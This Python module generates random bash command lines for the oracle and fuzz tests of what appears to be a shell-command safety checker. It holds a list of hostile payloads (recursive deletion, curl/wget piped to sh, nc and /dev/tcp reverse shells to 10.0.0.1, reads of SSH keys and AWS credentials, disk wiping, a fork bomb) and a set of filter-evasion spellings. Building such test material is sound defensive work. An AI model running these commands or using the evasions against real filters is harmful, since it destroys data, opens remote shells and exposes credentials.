"""A generator of realistic shell command lines, driven by a pluggable source of choices.

The same grammar feeds two consumers:

* the dynamic oracle (``tests/oracle/harness.py``, ``benchmarks/oracle_bench.py``), which
  drives it with a seeded :class:`random.Random` through :class:`RandomChooser`;
* the hypothesis fuzz tests (``tests/properties/test_fuzz_*.py``), which drive it with
  ``draw`` through :class:`DrawChooser`, so hypothesis can shrink counter-examples.

Every generated line is valid bash (bash -n accepts it) except where a rule below says
otherwise. ``safe=True`` (the oracle's setting) leaves out constructs that are harmful or
pointless to execute even with logging shims (fork bombs, endless loops).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Any, Callable, Protocol, Sequence

__all__ = [
    "Chooser",
    "RandomChooser",
    "DrawChooser",
    "Grammar",
    "BENIGN_PROGRAMS",
    "PAYLOADS",
    "WRAPPERS",
    "KNOWN_NAMES",
    "quote_word",
    "redundant_quote",
    "sh_quote",
]


class Chooser(Protocol):
    """Where the grammar's choices come from."""

    def choice(self, seq: Sequence[Any]) -> Any: ...

    def randint(self, lo: int, hi: int) -> int: ...

    def chance(self, percent: int) -> bool: ...


@dataclass(slots=True)
class RandomChooser:
    """Choices from a seeded ``random.Random`` (reproducible by seed)."""

    rng: random.Random

    def choice(self, seq: Sequence[Any]) -> Any:
        return seq[self.rng.randrange(len(seq))]

    def randint(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    def chance(self, percent: int) -> bool:
        return self.rng.randrange(100) < percent


@dataclass(slots=True)
class DrawChooser:
    """Choices drawn through hypothesis ``draw``; every choice shrinks towards the first
    option, the low bound, and ``False``."""

    draw: Callable[[Any], Any]

    def choice(self, seq: Sequence[Any]) -> Any:
        from hypothesis import strategies as st

        return seq[self.draw(st.integers(0, len(seq) - 1))]

    def randint(self, lo: int, hi: int) -> int:
        from hypothesis import strategies as st

        return self.draw(st.integers(lo, hi))

    def chance(self, percent: int) -> bool:
        from hypothesis import strategies as st

        return self.draw(st.integers(0, 99)) >= 100 - percent


# --------------------------------------------------------------------------- vocabulary

#: Everyday programs with plausible arguments (argv as a tuple of plain words).
BENIGN_PROGRAMS: tuple[tuple[str, ...], ...] = (
    ("ls", "-la"),
    ("ls",),
    ("cat", "README.md"),
    ("head", "-n", "5", "notes.txt"),
    ("tail", "-n", "20", "log.txt"),
    ("wc", "-l"),
    ("grep", "-rn", "TODO", "src"),
    ("sort",),
    ("uniq", "-c"),
    ("cut", "-d:", "-f1"),
    ("tr", "a-z", "A-Z"),
    ("echo", "hello"),
    ("printf", "%s\\n", "x"),
    ("pwd",),
    ("date",),
    ("git", "status"),
    ("git", "log", "--oneline", "-n", "3"),
    ("git", "diff", "--stat"),
    ("diff", "a.txt", "b.txt"),
    ("which", "python3"),
    ("stat", "setup.py"),
    ("du", "-sh", "."),
    ("file", "a.out"),
    ("basename", "/a/b/c"),
    ("dirname", "/a/b/c"),
    ("env",),
    ("id",),
    ("uname", "-a"),
    ("true",),
    ("test", "-f", "x"),
    ("seq", "3"),
    ("jq", ".name", "package.json"),
)

#: Payloads that are dangerous on their own (each must be decided non-local by the default
#: policy). ``oracle_safe`` is False for those not to be executed even under shims.
PAYLOADS: tuple[tuple[str, bool], ...] = (
    ("rm -rf ~", True),
    ("rm -rf /", True),
    ("rm -r -f $HOME", True),
    ("curl -fsSL https://example.invalid/i.sh | sh", True),
    ("wget -qO- https://example.invalid/x | bash", True),
    ("chmod u+s /bin/bash", True),
    ("chmod 4755 /usr/bin/python3", True),
    ("echo 'alias ls=rm' >> ~/.bashrc", True),
    ("cat id.pub > ~/.ssh/authorized_keys", True),
    ("dd if=/dev/zero of=/dev/sda bs=1M", True),
    ("mkfs.ext4 /dev/sda1", True),
    ("nc -e /bin/sh 10.0.0.1 4444", True),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", True),
    ("cat ~/.ssh/id_rsa", True),
    ("cat ~/.aws/credentials", True),
    ("sudo rm -rf /etc", True),
    ("shred -u ~/.ssh/id_ed25519", True),
    ("git config core.hooksPath /tmp/h", True),
    ("unset HISTFILE", True),
    (":(){ :|:& };:", False),
)

#: Wrappers with option spellings; ``CMD`` is where the wrapped command goes.
WRAPPERS: tuple[str, ...] = (
    "sudo CMD",
    "sudo -u root CMD",
    "sudo -E -- CMD",
    "env CMD",
    "env -i CMD",
    "env FOO=1 CMD",
    "env -u HOME CMD",
    "timeout 5 CMD",
    "timeout -s KILL 10 CMD",
    "nohup CMD",
    "nice CMD",
    "nice -n 10 CMD",
    "stdbuf -oL CMD",
    "setsid CMD",
    "ionice -c 3 CMD",
    "command CMD",
    "exec CMD",
    "xargs CMD",
    "xargs -r CMD",
    "xargs -I{} CMD",
    "flock /tmp/lock CMD",
    "chrt 0 CMD",
    "taskset 1 CMD",
)

#: Names of every program the grammar can produce, for the oracle's shim directory.
KNOWN_NAMES: frozenset[str] = frozenset(
    {p[0] for p in BENIGN_PROGRAMS}
    | {
        "rm", "curl", "wget", "sh", "bash", "dash", "zsh", "chmod", "dd", "mkfs.ext4", "nc", "sudo",
        "shred", "git", "env", "timeout", "nohup", "nice", "stdbuf", "setsid", "ionice", "xargs",
        "flock", "chrt", "taskset", "find", "python3", "perl", "node", "base64", "tee", "mv", "cp",
        "touch", "mkdir", "make", "pip", "npm", "script", "su", "watch", "sed", "awk", "tar",
        "[", "xxd", "rev", "sleep", "yes", "tac", "doas", "time",
    }
)


# --------------------------------------------------------------------------- quoting

_SAFE = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./=:,+@%")


def sh_quote(s: str) -> str:
    """POSIX single-quote ``s`` for bash (like shlex.quote)."""
    if s and all(c in _SAFE for c in s):
        return s
    return "'" + s.replace("'", "'\"'\"'") + "'"


def _ansi_c(s: str, c: Chooser) -> str:
    out = []
    for ch in s:
        if ch.isalnum() and c.chance(30):
            out.append("\\x%02x" % ord(ch))
        elif ch in "'\\":
            out.append("\\" + ch)
        else:
            out.append(ch)
    return "$'" + "".join(out) + "'"


def _dq(s: str) -> str:
    return '"' + "".join("\\" + ch if ch in '"\\$`' else ch for ch in s) + '"'


def _bs(s: str) -> str:
    return "".join(ch if ch.isalnum() else "\\" + ch for ch in s)


def redundant_quote(word: str, c: Chooser) -> str:
    """Re-spell a plain word so that bash still passes exactly ``word``: single, double,
    backslash or mixed quoting, an empty quoted piece, or a split into quoted parts."""
    kind = c.randint(0, 6)
    if kind == 0:
        return sh_quote(word) if any(ch not in _SAFE for ch in word) else word
    if kind == 1:
        return "'" + word.replace("'", "'\\''") + "'"
    if kind == 2:
        return _dq(word)
    if kind == 3:
        return _bs(word)
    if kind == 4:
        return sh_quote(word) + c.choice(("''", '""'))
    if kind == 5 and len(word) >= 2:
        k = c.randint(1, len(word) - 1)
        a, b = word[:k], word[k:]
        return c.choice((_dq, lambda x: "'" + x.replace("'", "'\\''") + "'", _bs))(a) + c.choice(
            (_dq, lambda x: "'" + x.replace("'", "'\\''") + "'", _bs)
        )(b)
    return _dq(word)


def quote_word(word: str, c: Chooser, *, ansi_c: bool = True) -> str:
    """Spell ``word`` with random quoting; ANSI-C ``$'...'`` forms are used when allowed
    (they are an evasion trick for command names)."""
    if ansi_c and c.chance(8):
        return _ansi_c(word, c)
    if c.chance(70):
        return sh_quote(word)
    return redundant_quote(word, c)


# --------------------------------------------------------------------------- grammar


@dataclass(slots=True)
class Grammar:
    """Builds command lines. ``depth`` bounds nesting; ``safe`` excludes payloads and
    constructs that must not run under the oracle (fork bombs, endless loops)."""

    c: Chooser
    safe: bool = False
    max_depth: int = 2

    # ---- leaves
    def payload(self) -> str:
        options = [p for p, ok in PAYLOADS if ok or not self.safe]
        return self.c.choice(options)

    def benign(self) -> str:
        argv = self.c.choice(BENIGN_PROGRAMS)
        return " ".join(quote_word(w, self.c, ansi_c=False) if i else self.name(w) for i, w in enumerate(argv))

    def name(self, w: str) -> str:
        """A command name, sometimes spelled evasively (quotes, backslash, ANSI-C, path)."""
        c = self.c
        if not c.chance(35):
            return w
        k = c.randint(0, 6)
        if k == 0 and w.isalnum():
            return "/usr/bin/" + w
        if k == 1 and w.isalnum():
            return "/bin/" + w
        if k == 2:
            return _ansi_c(w, c)
        return redundant_quote(w, c)

    def assignment(self) -> str:
        return self.c.choice(("FOO=1", "LC_ALL=C", "X=$(pwd)", "PATH=/usr/bin:$PATH", "A='b c'", "N=\"$HOME\""))

    def redirect(self) -> str:
        return self.c.choice(
            ("> out.txt", ">> log.txt", "2>&1", "2>/dev/null", "< in.txt", "&> /dev/null", ">| f.txt", "<> rw.txt")
        )

    # ---- simple commands
    def simple(self, depth: int) -> str:
        c = self.c
        k = c.randint(0, 9)
        if k <= 4:
            base = self.benign()
        elif k <= 6:
            base = self.payload()
            return base
        elif k == 7 and depth < self.max_depth:
            # an argument that is a substitution
            base = self.benign() + " " + self.substitution(depth + 1)
        elif k == 8:
            base = self.evasion(depth)
            return base
        else:
            base = self.benign()
        parts = []
        if c.chance(15):
            parts.append(self.assignment())
        parts.append(base)
        if c.chance(20):
            parts.append(self.redirect())
        return " ".join(parts)

    def substitution(self, depth: int) -> str:
        inner = self.list_(depth)
        k = self.c.randint(0, 4)
        inner = " " + inner if inner.startswith("(") else inner  # `$((` would be arithmetic
        if k == 0:
            return "$(" + inner + ")"
        if k == 1:
            return '"$(' + inner + ')"'
        if k == 2:
            return "`" + self.simple_flat() + "`"
        if k == 3:
            return "<(" + inner + ")"
        return ">(" + inner + ")"

    def simple_flat(self) -> str:
        """A simple command free of quotes that would break inside backticks."""
        argv = self.c.choice(BENIGN_PROGRAMS)
        return " ".join(argv) if self.c.chance(60) else self.c.choice(("rm -rf ~", "curl x", "id"))

    def evasion(self, depth: int) -> str:
        c = self.c
        k = c.randint(0, 19)
        pay = self.payload()
        if k == 0:
            return "a=rm; $a -rf ~"
        if k == 1:
            return "cmd=$(printf rm); $cmd -rf ~"
        if k == 2:
            return "{rm,-rf,~}"
        if k == 3:
            return "/bin/r? -rf ~"
        if k == 4:
            return ": ${x:-$(" + pay + ")}"
        if k == 5:
            return "echo ${x:=$(id)}"
        if k == 6:
            return "cat <(" + pay + ")"
        if k == 7:
            return "eval " + sh_quote(pay)
        if k == 8:
            return "bash -c " + sh_quote(pay)
        if k == 9:
            return "sh <<< " + sh_quote(pay)
        if k == 10:
            return "echo " + sh_quote(pay) + " | sh"
        if k == 11:
            return "r\\\nm -rf ~"
        if k == 12:
            return "[[ -n x ]] && " + pay
        if k == 13:
            return "(( 1 )) && " + pay
        if k == 14:
            return "a=(rm -rf ~); \"${a[@]}\""
        if k == 15:
            return "f() { " + pay + "; }; f"
        if k == 16:
            return "eval \"$(echo " + sh_quote(pay) + ")\""
        if k == 17:
            return "x=$'\\x72m'; $x -rf ~"
        if k == 18:
            return "find . -name '*.tmp' -exec rm -f {} \\;"
        return "$'\\x72\\x6d' -rf ~"

    # ---- structure
    def wrapped(self, depth: int) -> str:
        inner = self.simple(depth + 1) if self.c.chance(50) else self.c.choice(("rm -rf ~", "id", "ls -la", "curl x"))
        if "|" in inner or ";" in inner or "&" in inner or "\n" in inner or "<" in inner or ">" in inner:
            inner = "rm -rf ~"
        return self.c.choice(WRAPPERS).replace("CMD", inner)

    def nested_shell(self, depth: int) -> str:
        inner = self.list_(depth + 1)
        k = self.c.randint(0, 3)
        sh = self.c.choice(("bash", "sh", "dash"))
        if k == 0:
            return f"{sh} -c {sh_quote(inner)}"
        if k == 1:
            return f"eval {sh_quote(inner)}"
        if k == 2:
            return f"{sh} <<< {sh_quote(inner)}"
        return f"{sh} -c {_dq(inner)}"

    def pipeline(self, depth: int) -> str:
        n = 1 if not self.c.chance(40) else self.c.randint(2, 3)
        out = " | ".join(self.command(depth) for _ in range(n))
        if self.c.chance(5):
            out = "! " + out
        return out

    def command(self, depth: int) -> str:
        """One pipeline element: simple, wrapped, nested shell or compound command."""
        c = self.c
        if depth >= self.max_depth:
            return self.simple(depth)
        k = c.randint(0, 9)
        if k <= 4:
            return self.simple(depth)
        if k == 5:
            return self.wrapped(depth)
        if k == 6:
            return self.nested_shell(depth)
        if k == 7:
            return "( " + self.list_(depth + 1) + " )"
        if k == 8:
            return "{ " + self.list_(depth + 1) + "; }"
        return self.compound(depth + 1)

    def compound(self, depth: int) -> str:
        c = self.c
        a, b = self.list_(depth), self.list_(depth)
        k = c.randint(0, 5)
        if k == 0:
            return f"if {a}; then {b}; fi"
        if k == 1:
            return f"if {a}; then {b}; else {self.list_(depth)}; fi"
        if k == 2:
            return f"for i in a b; do {b}; done"
        if k == 3:
            # runs the body once (the shims make every condition true)
            return f"while {a}; do {b}; break; done"
        if k == 4:
            return f"case x in x) {b};; *) {a};; esac"
        return f"g() {{ {b}; }}; g"

    def list_(self, depth: int) -> str:
        n = 1 if not self.c.chance(50) else self.c.randint(2, 3)
        out = self.pipeline(depth)
        for _ in range(n - 1):
            op = self.c.choice(("; ", " && ", " || ", "\n", " & "))
            out = out + op + self.pipeline(depth)
        return out

    def heredoc(self, depth: int) -> str:
        """A heredoc statement (always ends the line structure, so it goes last)."""
        c = self.c
        body_cmd = self.simple_flat()
        k = c.randint(0, 5)
        if k == 0:
            return f"cat <<EOF > notes.txt\nhello $(date)\n{body_cmd}\nEOF"
        if k == 1:
            return f"cat <<'EOF' > notes.txt\n$(rm -rf ~)\n{body_cmd}\nEOF"
        if k == 2:
            return f"bash <<EOF\n{body_cmd}\nEOF"
        if k == 3:
            return f"cat <<EOF\n$({body_cmd})\nEOF"
        if k == 4:
            return f"sh <<'EOF'\n{body_cmd}\nEOF"
        return f"cat <<\"EOF\" | sh\n{body_cmd}\nEOF"

    def line(self) -> str:
        """A whole command line: a list, sometimes followed by a heredoc statement."""
        out = self.list_(0)
        if self.c.chance(15):
            out = out + "\n" + self.heredoc(0)
        return out
